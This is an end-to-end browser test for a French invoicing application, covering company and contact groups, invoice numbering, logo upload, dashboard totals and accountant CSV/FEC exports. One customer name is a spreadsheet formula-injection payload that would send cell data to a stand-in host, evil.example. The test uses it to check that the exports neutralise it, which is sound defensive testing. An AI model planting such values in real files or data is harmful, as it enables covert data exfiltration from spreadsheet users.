import { readFile } from 'node:fs/promises';
import { randomUUID } from 'node:crypto';
import { contactFields, entrepriseFields } from '@relais/documents/testing/fixtures';
import type { Browser, BrowserContext } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { createUserApi } from '../support/auth';
import { pullAll, pushAll, type ServerDocument } from '../support/replication';
import type { TestServer } from '../support/server';
import { InvoicingPartiesPage } from './pages/invoicing-parties';
import { SignInPage } from './pages/sign-in-page';
import { openAppPage } from './support/browser';
import { startE2eEnvironment, stopE2eEnvironment } from './support/environment';
import { pollUntil } from './support/wait';

const adminPassword = 'Relais-e2e-parties-2031';
const financePassword = 'Relais-e2e-facturation-2031';

let server: TestServer;
let browser: Browser;
let adminToken: string;
const contexts: BrowserContext[] = [];

beforeAll(async () => {
  ({ server, browser, adminToken } = await startE2eEnvironment(adminPassword));
});

afterAll(async () => {
  await stopE2eEnvironment({ server, browser }, contexts);
});

/** Today in Paris (the server dates a validated invoice of its own day there). */
function parisToday(): string {
  return new Intl.DateTimeFormat('fr-CA', { timeZone: 'Europe/Paris', year: 'numeric', month: '2-digit', day: '2-digit' }).format(new Date());
}

function randomDigits(length: number): string {
  return Array.from({ length }, () => Math.floor(Math.random() * 10)).join('');
}

/** A 1 × 1 PNG. */
const tinyPng = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';

const adresse = { ligne1: '5 avenue du Prado', code_postal: '13008', ville: 'Marseille' };

/** A customer name a spreadsheet would run as a formula, were the exports not to neutralise it. */
const hostileName = (suffix: string): string => `=HYPERLINK("http://evil.example/?"&A1,"${suffix}")`;

/** A company, its customer (named like a formula) and one validated invoice of 1 234,56 € HT, pushed by the administrator. */
async function seedValidatedInvoice(suffix: string): Promise<{ raisonSociale: string }> {
  const entrepriseId = randomUUID();
  const contactId = randomUUID();
  const raisonSociale = `Semence ${suffix}`;
  await pushAll(server.url, adminToken, 'entreprises', [
    {
      id: entrepriseId,
      ...entrepriseFields({
        raison_sociale: raisonSociale,
        adresse,
        siren: randomDigits(9),
        numerotation: { devis: 'SD-{YYYY}-{00000}', facture: 'SF-{YYYY}-{00000}', avoir: 'SA-{YYYY}-{00000}' },
      }),
    },
  ]);
  await pushAll(server.url, adminToken, 'contacts', [
    { id: contactId, ...contactFields(entrepriseId, { nom: hostileName(suffix), email: 'compta@client.example', adresse_facturation: adresse }) },
  ]);
  const day = parisToday();
  const factureId = randomUUID();
  const facture = {
    id: factureId,
    rev: 1,
    updated_at: new Date().toISOString(),
    _deleted: false,
    entreprise_id: entrepriseId,
    contact_id: contactId,
    type_facture: 'facture',
    statut: 'validee',
    // The server numbers and dates it on validation; given here for a server without that guard.
    numero: `SF-${day.slice(0, 4)}-00001`,
    date_facture: day,
    date_echeance: day,
    validee_le: new Date().toISOString(),
    conditions_paiement: { jours: 30, fin_de_mois: false },
    lignes: [{ id: randomUUID(), designation: 'Transport Marseille–Lyon', quantite: 1, prix_unitaire_ht: 123_456, taux_tva_bp: 2000 }],
    regime_tva: 'normale',
  };
  // Validating: the server answers with its own state (number, dates) as a conflict; no refusal.
  const response = await fetch(`${server.url}/api/replication/factures/push`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', authorization: `Bearer ${adminToken}` },
    body: JSON.stringify([{ newDocumentState: facture }]),
  });
  const body = (await response.json()) as { conflicts?: { id: string; statut?: string }[]; refusals?: unknown[] };
  const unexpected = (body.conflicts ?? []).filter((conflict) => conflict.id !== factureId || conflict.statut !== 'validee');
  if (!response.ok || (body.refusals?.length ?? 0) > 0 || unexpected.length > 0) {
    throw new Error(`push factures : HTTP ${response.status} ${JSON.stringify(body).slice(0, 400)}`);
  }
  return { raisonSociale };
}

function groupeId(entreprise: ServerDocument, nom: string): string {
  const groupes = entreprise.groupes as { id: string; nom: string }[];
  const found = groupes.find((groupe) => groupe.nom === nom);
  if (!found) {
    throw new Error(`groupe ${nom} absent de ${String(entreprise.raison_sociale)}`);
  }
  return found.id;
}

describe('facturation : entreprises, groupes, contacts et tableau de bord', () => {
  test('un contact ne rejoint que les groupes de son entreprise ; il arrive au serveur ; le tableau de bord montre la facture validée', async () => {
    const suffix = randomUUID().slice(0, 6);
    const seed = await seedValidatedInvoice(suffix);
    const user = await createUserApi(server.url, adminToken, { username: `facturation.${suffix}`, display_name: 'Facturation', role_name: 'finance' });
    const { page } = await openAppPage(browser, server, contexts, 'facturation');
    const signIn = new SignInPage(page);
    await signIn.open('/app/entreprises');
    await signIn.signInWithOneTimePassword(user.username, user.temp_password, financePassword);
    const screen = new InvoicingPartiesPage(page);
    await page.getByTestId('entreprise-new').waitFor({ state: 'visible' });
    await screen.badge.waitForSynced();

    const alpha = `Alpha Transports ${suffix}`;
    const beta = `Beta Logistique ${suffix}`;
    await screen.createEntreprise({ raisonSociale: alpha, siren: randomDigits(9), ville: 'Marseille', groupes: ['Grands comptes', 'PME'], iban: 'fr76 3000 6000 0112 3456 7890 189' });
    await screen.row(alpha).waitFor({ state: 'visible' });
    await screen.createEntreprise({ raisonSociale: beta, siren: randomDigits(9), ville: 'Lyon', groupes: ['Partenaires'] });
    await screen.row(beta).waitFor({ state: 'visible' });
    // « Active » heads the column: the badge agrees with it (une entreprise active).
    expect(await screen.row(alpha).locator('.badge-active').innerText()).toBe('Active');
    // The page's title stands clear of the module's tabs.
    const tabsBox = await page.locator('nav.invoicing-tabs').boundingBox();
    const titleBox = await page.locator('.invoicing h1').first().boundingBox();
    expect((titleBox?.y ?? 0) - ((tabsBox?.y ?? 0) + (tabsBox?.height ?? 0))).toBeGreaterThanOrEqual(8);
    const serverAlpha = await pollUntil(
      async () => (await pullAll(server.url, 'entreprises', adminToken)).find((doc) => !doc._deleted && doc.raison_sociale === alpha),
      { what: `l’entreprise ${alpha} sur le serveur` },
    );
    expect(serverAlpha.iban).toBe('FR7630006000011234567890189');
    expect(serverAlpha.taux_penalites_bp).toBe(1215);
    expect(serverAlpha.conditions_paiement).toEqual({ jours: 30, fin_de_mois: false });

    await screen.tab('contacts');
    await screen.openNewContact();
    await screen.chooseEntreprise(alpha);
    expect(await screen.offeredGroupes()).toEqual(['Grands comptes', 'PME']);
    await screen.chooseEntreprise(beta);
    expect(await screen.offeredGroupes()).toEqual(['Partenaires']);
    await screen.chooseEntreprise(alpha);
    await screen.tickGroupe('Grands comptes');
    // Moving the contact to the other company flags the group it joined, live, with the rule's message.
    await screen.chooseEntreprise(beta);
    await screen.groupeIssues().first().waitFor({ state: 'visible' });
    expect(await screen.groupeIssues().first().innerText()).toContain(`Ce groupe appartient à ${alpha}`);
    await screen.chooseEntreprise(alpha);
    await screen.groupeIssues().first().waitFor({ state: 'detached' });
    await screen.tickGroupe('PME');
    await screen.fillContact({ nom: `Dupont ${suffix}`, ville: 'Lyon' });
    await screen.saveContact();
    await screen.row(`Dupont ${suffix}`).waitFor({ state: 'visible' });
    expect(await screen.row(`Dupont ${suffix}`).innerText()).toContain('Grands comptes');

    const contact = await pollUntil(
      async () => (await pullAll(server.url, 'contacts', adminToken)).find((doc) => !doc._deleted && doc.nom === `Dupont ${suffix}`),
      { what: `le contact Dupont ${suffix} sur le serveur` },
    );
    expect(contact.entreprise_id).toBe(serverAlpha.id);
    expect([...(contact.groupe_ids as string[])].sort()).toEqual([groupeId(serverAlpha, 'Grands comptes'), groupeId(serverAlpha, 'PME')].sort());

    // A group still used by a contact is kept, and the contacts in it are named.
    await screen.tab('entreprises');
    await screen.row(alpha).getByRole('button', { name: 'Modifier' }).click();
    await screen.dialog.waitFor({ state: 'visible' });
    // The long form scrolls under its footer: « Enregistrer » is in view without scrolling the dialog.
    const viewport = page.viewportSize();
    const save = await page.getByTestId('entreprise-save').boundingBox();
    expect(viewport && save ? save.y + save.height <= viewport.height : false).toBe(true);
    await screen.removeGroupe('PME');
    expect(await screen.dialog.getByTestId('groupe-in-use').innerText()).toContain(`Dupont ${suffix}`);
    expect(await screen.dialog.getByTestId('groupe-row').count()).toBe(2);
    // Credit notes numbered like invoices: both fields say so in French, live; the usual format clears it.
    const avoirFormat = screen.dialog.getByTestId('numbering-avoir').locator('input');
    await avoirFormat.fill('FA-{YYYY}-{000}');
    expect(await screen.dialog.getByTestId('numbering-facture').getByRole('alert').innerText()).toBe(
      'Ce format peut donner les mêmes numéros que celui des avoirs : donnez à chacun un préfixe qui lui est propre',
    );
    expect(await screen.dialog.getByTestId('numbering-avoir').getByRole('alert').innerText()).toContain('que celui des factures');
    await avoirFormat.fill('AV-{YYYY}-{00000}');
    await screen.dialog.getByTestId('numbering-facture').getByRole('alert').waitFor({ state: 'detached' });
    // The logo: a GIF is refused in French, a PNG is previewed, then stored as a data URL.
    const logo = screen.dialog.getByTestId('entreprise-logo');
    await logo.locator('input[type=file]').setInputFiles({ name: 'logo.gif', mimeType: 'image/gif', buffer: Buffer.from('R0lGODlhAQABAAAAACw=', 'base64') });
    expect(await logo.getByRole('alert').innerText()).toBe('Ce fichier n’est pas une image PNG ou JPEG.');
    await logo.locator('input[type=file]').setInputFiles({ name: 'logo.png', mimeType: 'image/png', buffer: Buffer.from(tinyPng, 'base64') });
    await logo.getByRole('img', { name: 'Aperçu du logo' }).waitFor({ state: 'visible' });
    await page.getByTestId('entreprise-save').click();
    await screen.dialog.waitFor({ state: 'detached' });
    const withLogo = await pollUntil(
      async () => (await pullAll(server.url, 'entreprises', adminToken)).find((doc) => doc.id === serverAlpha.id && typeof doc.logo === 'string'),
      { what: `le logo de ${alpha} sur le serveur` },
    );
    expect(withLogo.logo).toBe(`data:image/png;base64,${tinyPng}`);
    expect((withLogo.groupes as unknown[]).length).toBe(2);

    await screen.tab('facturation');
    await page.getByTestId('dashboard-entreprise').selectOption({ label: seed.raisonSociale });
    const bar = screen.turnoverBar(parisToday().slice(0, 7));
    await pollUntil(async () => (await bar.getAttribute('data-cents')) === '123456', {
      what: 'le chiffre d’affaires du mois de la facture validée (123 456 centimes)',
      describe: async () => `data-cents = ${await bar.getAttribute('data-cents')}`,
    });
    // 1 234,56 € HT + 20 % VAT, not paid yet.
    expect((await page.getByTestId('kpi-unpaid').innerText()).replace(/[\u00a0\u202f]/g, ' ')).toContain('1 481,47 €');
    // « Voir les factures » is a button like the others, in the text's colour rather than a link's blue.
    const openFactures = page.getByTestId('dashboard-open-factures');
    expect(await openFactures.evaluate((link) => getComputedStyle(link).color === getComputedStyle(document.body).color)).toBe(true);

    // The accountant's files for the month of the invoice, from the dashboard.
    const exportsPanel = page.getByTestId('invoicing-exports');
    await exportsPanel.getByTestId('export-du').fill(`${parisToday().slice(0, 7)}-01`);
    await exportsPanel.getByTestId('export-au').fill(parisToday());
    const [csv] = await Promise.all([page.waitForEvent('download'), exportsPanel.getByTestId('export-factures').click()]);
    const csvBytes = await readFile(await csv.path());
    expect([...csvBytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const csvText = csvBytes.subarray(3).toString('utf8');
    expect(csvText.split('\r\n')[0]).toContain(';');
    expect(csvText).toContain('1234,56');
    // The customer named like a formula is text in the accountant's spreadsheet (CSV and FEC alike).
    expect(csvText).toContain(`"'${hostileName(suffix).replaceAll('"', '""')}"`);
    const [fec] = await Promise.all([page.waitForEvent('download'), exportsPanel.getByTestId('export-fec').click()]);
    expect(fec.suggestedFilename()).toMatch(/^\d{9}FEC\d{8}\.txt$/);
    const fecText = (await readFile(await fec.path())).toString('utf8');
    expect(fecText.split(/\r?\n/)[0]?.split('\t').slice(0, 3)).toEqual(['JournalCode', 'JournalLib', 'EcritureNum']);
    expect(fecText).toContain(`\t'${hostileName(suffix)}\t`);
    expect(fecText).not.toContain(`\t${hostileName(suffix)}`);
    expect(await exportsPanel.getByTestId('export-message').innerText()).toContain(fec.suggestedFilename());
  });
});
